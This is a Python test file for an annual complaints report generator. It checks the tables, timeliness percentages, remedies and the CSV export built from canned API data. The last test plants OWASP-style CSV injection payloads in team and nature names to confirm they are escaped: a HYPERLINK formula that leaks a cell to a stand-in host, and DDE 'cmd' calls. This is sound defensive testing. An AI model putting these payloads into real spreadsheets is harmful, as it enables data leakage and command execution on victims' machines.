"""The annual report: assembled from canned API answers, without an API or a database."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from fake_api import (
    COMPLAINTS_BY_NATURE,
    ESCALATIONS,
    FEEDBACK_BY_TEAM,
    LEDGER_ROWS,
    NATURES,
    PUBLISHED,
    SERVICES,
    STAGE2,
    TEAMS,
    TIMELINESS,
    FakeApi,
)

from services.reporter.annual import (
    ANNUAL_CSV_HEADER,
    AnnualInputs,
    annual_csv_rows,
    assemble_annual,
    compile_annual,
)
from services.reporter.api_models import (
    EscalationCounts,
    FeedbackCounts,
    Nature,
    OmbudsmanLedger,
    PublishedTexts,
    ServiceArea,
    Stage2Findings,
    Team,
    Timeliness,
)
from services.reporter.client import ApiClient
from services.reporter.csv_cells import FORMULA_STARTS
from services.reporter.financial_year import FinancialYear
from services.reporter.output import annual_files
from services.reporter.report_models import AnnualReport, ServiceReport, Table
from services.reporter.settings import ReporterSettings

YEAR = FinancialYear(2018)
GENERATED = datetime(2019, 5, 1, 9, 30, tzinfo=UTC)


def timeliness(kind: str, within: int) -> Timeliness:
    rows = [
        {"financial_year": y, "service": s, "kind": kind, "within_working_days": within,
         "answered_within": n, "total": d}
        for y, s, n, d in TIMELINESS[kind]
    ]  # fmt: skip
    return Timeliness.model_validate({"rows": rows})


def canned_inputs(*, empty: bool = False) -> AnnualInputs:
    def rows(data: list[dict[str, object]]) -> list[dict[str, object]]:
        return [] if empty else data

    return AnnualInputs(
        services=[ServiceArea.model_validate(s) for s in SERVICES],
        teams=[Team.model_validate(t) for t in TEAMS],
        natures=[Nature.model_validate(n) for n in NATURES],
        feedback=FeedbackCounts.model_validate({"rows": rows(FEEDBACK_BY_TEAM)}),
        complaints=FeedbackCounts.model_validate({"rows": rows(COMPLAINTS_BY_NATURE)}),
        complaint_timeliness=Timeliness(rows=[]) if empty else timeliness("complaint", 20),
        casework_timeliness=Timeliness(rows=[]) if empty else timeliness("member_enquiry", 10),
        escalations=EscalationCounts.model_validate({"rows": rows(ESCALATIONS)}),
        stage2=Stage2Findings.model_validate(
            {"findings": [], "recommendations": []} if empty else STAGE2
        ),
        ledger=OmbudsmanLedger.model_validate(
            {"financial_year": "2018-19", "as_of": "2019-04-30", "rows": rows(LEDGER_ROWS)}
        ),
        published=PublishedTexts.model_validate(
            {"financial_year": "2018-19", "lessons": [], "recommendations": [], "compliments": []}
            if empty
            else {"financial_year": "2018-19", **PUBLISHED}
        ),
    )


@pytest.fixture(scope="module")
def report() -> AnnualReport:
    return assemble_annual(canned_inputs(), YEAR, GENERATED)


def service(report: AnnualReport, code: str) -> ServiceReport:
    return next(s for s in report.services if s.service == code)


def table(part: ServiceReport, section: str) -> Table:
    return next(t for t in part.tables if t.section == section)


def test_the_report_names_its_year_and_period(report: AnnualReport) -> None:
    data = report.model_dump(mode="json", by_alias=True)
    assert data["report"] == "annual"
    assert (data["financial_year"], data["label"], data["previous_financial_year"]) == (
        "2018-19",
        "2018/19",
        "2017-18",
    )
    assert data["period"] == {"from": "2018-04-01", "to": "2019-03-31"}
    assert data["generated_at"] == "2019-05-01T09:30:00Z"
    assert data["corporate_target_percent"] == 90
    assert "year in which they were received" in data["counting_rule"]


def test_a_team_new_this_year_reads_n_a_for_last_year(report: AnnualReport) -> None:
    stage1 = table(service(report, "children"), "stage1_complaints")
    rows = {r.team: r for r in stage1.rows}
    assert rows["children-community"].team_name == "Community Solutions"
    assert (rows["children-community"].value, rows["children-community"].previous_year_value) == (
        7,
        None,
    )
    assert (rows["children-disability"].value, rows["children-disability"].previous_year_value) == (
        74,
        103,
    )


def test_a_team_closed_before_both_years_has_no_row(report: AnnualReport) -> None:
    for t in service(report, "children").tables:
        assert "children-closed" not in {r.team for r in t.rows}


def test_every_table_has_the_same_teams_and_zero_where_none(report: AnnualReport) -> None:
    children = service(report, "children")
    assert [t.section for t in children.tables] == [
        "stage1_complaints",
        "stage2_investigations",
        "stage3_reviews",
        "ombudsman_investigations",
        "compliments",
        "members_casework",
    ]
    stage3 = table(children, "stage3_reviews")
    assert [(r.team, r.value, r.previous_year_value) for r in stage3.rows] == [
        ("children-community", 0, None),
        ("children-disability", 0, 1),
    ]


def test_totals_sum_the_rows_leaving_n_a_out(report: AnnualReport) -> None:
    children = service(report, "children")
    stage1 = table(children, "stage1_complaints")
    assert (stage1.total.value, stage1.total.previous_year_value) == (81, 103)
    assert stage1.title == "Stage 1 Complaints Received"
    headline = {h.section: (h.value, h.previous_year_value) for h in children.headline}
    assert headline == {
        "stage1_complaints": (81, 103),
        "stage2_investigations": (3, 1),
        "stage3_reviews": (0, 1),
        "ombudsman_investigations": (2, 0),
        "compliments": (7, 18),
        "members_casework": (58, 0),
    }


def test_a_corporate_service_prints_corporate_complaints(report: AnnualReport) -> None:
    education = service(report, "education")
    assert table(education, "stage1_complaints").title == "Stage 1 Corporate Complaints Received"
    assert education.headline[0].label == "Stage 1 Corporate Complaints Received"


def test_timeliness_reads_as_the_seed_report(report: AnnualReport) -> None:
    complaints, casework = service(report, "children").timeliness
    assert complaints.text == "78% (63 of 81) answered within 20 working days"
    assert (complaints.numerator, complaints.denominator, complaints.percent) == (63, 81, 78)
    assert complaints.previous_year.percent == 86
    assert complaints.previous_year.text == "86% (89 of 103) answered within 20 working days"
    assert (complaints.meets_target, complaints.change) == (False, "decrease")
    assert casework.section == "members_casework"
    assert casework.text == "95% (55 of 58) answered within 10 working days"
    assert (casework.meets_target, casework.change) == (True, None)
    assert casework.previous_year.percent is None


def test_natures_list_every_nature_with_its_percentage(report: AnnualReport) -> None:
    natures = service(report, "children").natures
    assert natures.denominator == 81
    assert [(r.nature, r.name, r.count, r.percent) for r in natures.rows] == [
        ("assessment", "Challenge to Assessment Outcome", 8, 10),
        ("poor-communication", "Poor Communication", 67, 83),
        (None, "Not recorded", 6, 7),
    ]
    education = service(report, "education").natures
    assert [(r.name, r.count, r.percent) for r in education.rows] == [("Delay in service", 18, 100)]


def test_outcomes_always_show_the_first_four_and_open_when_any(report: AnnualReport) -> None:
    outcomes = service(report, "children").outcomes
    assert [(r.outcome, r.label, r.count, r.percent) for r in outcomes.rows] == [
        ("upheld", "Upheld", 54, 67),
        ("partly_upheld", "Partly Upheld", 15, 19),
        ("not_upheld", "Not Upheld", 6, 7),
        ("resolved_on_receipt", "Resolved Upon Receipt", 0, 0),
        ("open", "Open", 6, 7),
    ]
    assert [r.outcome for r in service(report, "education").outcomes.rows] == [
        "upheld",
        "partly_upheld",
        "not_upheld",
        "resolved_on_receipt",
    ]


def test_stage2_counts_findings_pending_points_and_agreed_recommendations(
    report: AnnualReport,
) -> None:
    stage2 = service(report, "children").stage2
    assert stage2.investigations == 3
    assert stage2.findings == {"upheld": 3, "partly_upheld": 0, "not_upheld": 7, "pending": 4}
    assert stage2.recommendations_agreed == 5
    assert stage2.recommendations == ["Review the venue."]


def test_stage3_and_ombudsman_count_the_escalations_started_this_year(
    report: AnnualReport,
) -> None:
    children = service(report, "children")
    assert children.stage3.reviews == 0
    assert children.stage3.outcomes == {
        "upheld": 0,
        "partly_upheld": 0,
        "not_upheld": 0,
        "pending": 0,
    }
    ombudsman = children.ombudsman
    assert ombudsman.investigations == 2
    assert ombudsman.decisions["no_fault"] == 1
    assert ombudsman.decisions["fault_injustice"] == 1
    assert ombudsman.decisions["pending"] == 0
    assert ombudsman.public_interest_reports == 1


def test_remedies_are_those_decided_this_year_with_money_in_pounds(report: AnnualReport) -> None:
    ombudsman = service(report, "children").ombudsman
    assert [(r.type, r.amount, r.payee_label) for r in ombudsman.remedies] == [
        ("financial_payment", "200.00", "Mr B"),
        ("new_assessment", None, "Mr B"),
        ("refund", "9124.60", "Mrs Y"),
    ]
    assert ombudsman.remedies_total_pence == 932460
    assert service(report, "education").ombudsman.remedies == []


def test_learning_and_compliments_are_the_published_texts(report: AnnualReport) -> None:
    children = service(report, "children")
    assert children.learning == ["Communicate clearly."]
    assert children.compliment_excerpts == ["Thank you, S."]


def test_an_empty_year_gives_zeros_and_null_percents() -> None:
    report = assemble_annual(canned_inputs(empty=True), YEAR, GENERATED)
    children = service(report, "children")
    assert all(h.value == 0 and h.previous_year_value == 0 for h in children.headline)
    complaints = children.timeliness[0]
    assert (complaints.numerator, complaints.denominator, complaints.percent) == (0, 0, None)
    assert (complaints.meets_target, complaints.change) == (None, None)
    assert children.natures.denominator == 0
    assert [r.percent for r in children.natures.rows] == [None, None]
    assert [r.count for r in children.outcomes.rows] == [0, 0, 0, 0]
    assert children.ombudsman.remedies_total_pence == 0


def csv_lines(report: AnnualReport) -> list[str]:
    return annual_files(report)[1].content.decode("utf-8").split("\r\n")


def csv_file_rows(report: AnnualReport) -> list[list[str]]:
    text = annual_files(report)[1].content.decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_an_empty_year_has_the_same_csv_header() -> None:
    full = csv_lines(assemble_annual(canned_inputs(), YEAR, GENERATED))
    empty = csv_lines(assemble_annual(canned_inputs(empty=True), YEAR, GENERATED))
    assert empty[0] == full[0] == ",".join(ANNUAL_CSV_HEADER)
    assert full[0] == "year,service,section,team,category,measure,value,percent,previous_year_value"
    assert len(empty) > 1


EXPECTED_CSV_ROWS = [
    # section, team, category, measure, value, percent, previous_year_value
    ("headline", "", "stage1_complaints", "count", "81", "", "103"),
    ("stage1_complaints", "Community Solutions", "", "count", "7", "", ""),
    ("stage1_complaints", "Head of Disability", "", "count", "74", "", "103"),
    ("stage1_complaints", "", "total", "count", "81", "", "103"),
    ("timeliness", "", "complaints", "answered_within_20_working_days", "63", "78", "89"),
    ("timeliness", "", "complaints", "total", "81", "", "103"),
    ("timeliness", "", "complaints", "previous_year_percent", "86", "", ""),
    ("timeliness", "", "complaints", "target_percent", "90", "", ""),
    ("timeliness", "", "members_casework", "answered_within_10_working_days", "55", "95", "0"),
    ("natures", "", "Poor Communication", "count", "67", "83", ""),
    ("outcomes", "", "Partly Upheld", "count", "15", "19", ""),
    ("stage2_findings", "", "pending", "count", "4", "", ""),
    ("stage2_findings", "", "recommendations_agreed", "count", "5", "", ""),
    ("stage3_outcomes", "", "upheld", "count", "0", "", ""),
    ("ombudsman_decisions", "", "no_fault", "count", "1", "", ""),
    ("ombudsman_decisions", "", "public_interest_reports", "count", "1", "", ""),
    ("ombudsman_remedies", "", "financial_payment", "count", "1", "", ""),
    ("ombudsman_remedies", "", "refund", "amount_pounds", "9124.60", "", ""),
    ("ombudsman_remedies", "", "total", "amount_pounds", "9324.60", "", ""),
]


@pytest.mark.parametrize("expected", EXPECTED_CSV_ROWS, ids=lambda row: "-".join(row[:4]))
def test_csv_rows_are_figures_in_long_format(
    report: AnnualReport, expected: tuple[str, ...]
) -> None:
    assert all(len(r) == len(ANNUAL_CSV_HEADER) for r in annual_csv_rows(report))
    assert ["2018-19", "children", *expected] in csv_file_rows(report)


def test_the_csv_carries_no_free_text_and_no_names(report: AnnualReport) -> None:
    text = annual_files(report)[1].content.decode("utf-8")
    for words in ("Communicate clearly", "Thank you", "Review the venue", "Mr B", "Mrs Y", "£"):
        assert words not in text


def test_compiling_makes_a_fixed_number_of_calls_and_never_lists_items() -> None:
    api = FakeApi()
    with ApiClient(
        ReporterSettings(api_url="http://api.test"), transport=api.transport()
    ) as client:
        steps: list[tuple[int, int, str]] = []
        report = compile_annual(client, YEAR, lambda *step: steps.append(step))
    assert len(api.requests) == 11
    assert all(r.method == "GET" for r in api.requests)
    assert all(p.startswith(("/v1/stats/", "/v1/reference/")) for p in api.stats_paths())
    assert [s[0] for s in steps] == list(range(1, 10))
    assert {s[1] for s in steps} == {9}
    assert table(service(report, "children"), "stage1_complaints").total.value == 81


def test_cases_on_a_team_the_reference_data_calls_inactive_or_unknown_still_count() -> None:
    inputs = canned_inputs()
    extra = FeedbackCounts.model_validate(
        {
            "rows": [
                {"financial_year": "2018-19", "service": "children", "team": "children-closed",
                 "kind": "complaint", "count": 2},
                {"financial_year": "2017-18", "service": "children", "team": "children-mystery",
                 "kind": "compliment", "count": 1},
            ]
        }
    )  # fmt: skip
    feedback = FeedbackCounts(rows=[*inputs.feedback.rows, *extra.rows])
    report = assemble_annual(
        AnnualInputs(**{**vars(inputs), "feedback": feedback}), YEAR, GENERATED
    )
    stage1 = table(service(report, "children"), "stage1_complaints")
    rows = {r.team: (r.team_name, r.value, r.previous_year_value) for r in stage1.rows}
    assert rows["children-closed"] == ("Closed Long Ago", 2, None)
    assert rows["children-mystery"] == ("children-mystery", 0, 0)
    assert (stage1.total.value, stage1.total.previous_year_value) == (83, 103)
    compliments = table(service(report, "children"), "compliments")
    assert compliments.total.previous_year_value == 19


# What a spreadsheet would run as a formula (OWASP's CSV injection examples and the rest of
# the characters that start one), planted in the names that reach the annual CSV.
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def test_team_and_nature_names_reach_the_annual_csv_as_text_never_as_formulas() -> None:
    inputs = canned_inputs()
    team_codes = ("children-community", "children-disability", "education-admissions")
    team_names = dict(zip(team_codes, FORMULAS[:3], strict=True))
    nature_names = dict(
        zip(("assessment", "poor-communication", "delay"), FORMULAS[3:], strict=True)
    )
    teams = [t.model_copy(update={"name": team_names.get(t.code, t.name)}) for t in inputs.teams]
    natures = [
        n.model_copy(update={"name": nature_names.get(n.code, n.name)}) for n in inputs.natures
    ]
    planted = AnnualInputs(**{**vars(inputs), "teams": teams, "natures": natures})
    rows = csv_file_rows(assemble_annual(planted, YEAR, GENERATED))
    header = rows[0]
    section, team, category = (header.index(c) for c in ("section", "team", "category"))
    names = {r[team] for r in rows[1:]} | {r[category] for r in rows[1:] if r[section] == "natures"}
    assert {f"'{name}" for name in FORMULAS} <= names
    # Nothing in the file, in any column, starts a formula; the figures are still numbers.
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    value = header.index("value")
    assert all(r[value] == "" or r[value].replace(".", "").isdigit() for r in rows[1:])
